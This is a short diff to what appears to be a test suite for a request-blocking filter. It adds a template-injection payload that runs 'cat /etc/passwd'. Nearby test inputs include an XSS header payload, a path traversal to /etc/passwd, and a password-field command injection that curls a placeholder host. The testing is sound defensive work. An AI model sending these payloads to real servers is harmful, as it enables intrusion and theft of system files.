@@ -67,6 +67,7 @@ test("attacks are blocked wherever they are, with the class in the reply and not
     // Protocol headers whose grammar never holds markup or a parent directory (nuclei: CVE-2022-24181, CVE-2019-5418).
     ["xss", send("GET", "/", [["x-forwarded-host", "foo\"><script>alert(document.domain)</script>"]])],
     ["traversal", send("GET", "/", [["accept", "../../../../../../../../etc/passwd{{"]])],
+    ["ssti", send("GET", "/", [["x-forwarded-host", "xxx{{['cat /etc/passwd']|filter('system')}}bbb"]])],
     // Shapes of nuclei's CVE templates: command substitution in a password field (CVE-2023-25717), a backquoted
     // column closed in ORDER BY (CVE-2022-24266), OGNL evaluation (CVE-2019-0230), PHP's concatenation (CVE-2021-30461).
     ["cmdi", send("POST", "/admin/login", [["content-type", "application/x-www-form-urlencoded"]], ["username=admin&password=password%24(curl%20c0ffee.example.net)"])],
